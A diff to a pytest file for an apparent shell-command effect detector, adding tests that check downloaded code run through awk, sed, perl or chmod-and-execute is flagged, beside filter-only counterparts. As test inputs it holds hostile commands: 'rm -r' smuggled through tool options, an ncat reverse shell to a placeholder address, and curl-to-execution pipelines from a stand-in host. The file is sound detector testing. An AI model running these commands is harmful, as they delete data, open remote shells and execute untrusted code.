@@ -4,6 +4,8 @@ from __future__ import annotations
 
 import pytest
 
+from sensor.model.effects import Origin
+
 
 @pytest.mark.parametrize("command", [
     "bsdtar --use-compress-program 'rm -r ~/x' -cf a .", "cpio --rsh-command='rm -r ~/x' -F h:x -i", "sshfs -o ssh_command='rm -r ~/x' h: m", "mosh --ssh='rm -r ~/x' h", "make SHELL='rm -r ~/x' x",
@@ -51,3 +53,15 @@ def test_a_line_that_is_only_named_or_harmless_stays_words(effects_of, command):
 def test_a_connection_that_an_option_ties_to_a_shell(effects_of):
     found = effects_of("ncat --exec /bin/sh 203.0.113.9 4444").effects
     assert "reverse-shell" in found[0].flags
+
+
+@pytest.mark.parametrize("command", [
+    "curl -s https://h.example.net/a | awk '{system($0)}'", "curl -s https://h.example.net/a | sed -n e", "curl -s https://h.example.net/a | perl -ne 'system $_'", "aria2c https://h.example.net/t && chmod +x t && ./t", "axel https://h.example.net/t; sh t",
+])
+def test_what_is_fetched_is_run_by_a_filter_or_under_its_own_name(effects_of, command):
+    assert any(Origin.DOWNLOAD in effect.executes for effect in effects_of(command).effects)
+
+
+@pytest.mark.parametrize("command", ["curl -s https://h.example.net/a | awk '{print $1}'", "curl -s https://h.example.net/a | sed -n 's/a/e/p'", "curl -s https://h.example.net/a | perl -ne 'print $_'", "aria2c -o u https://h.example.net/t; sh t"])
+def test_what_is_fetched_is_only_filtered(effects_of, command):
+    assert not any(Origin.DOWNLOAD in effect.executes for effect in effects_of(command).effects)
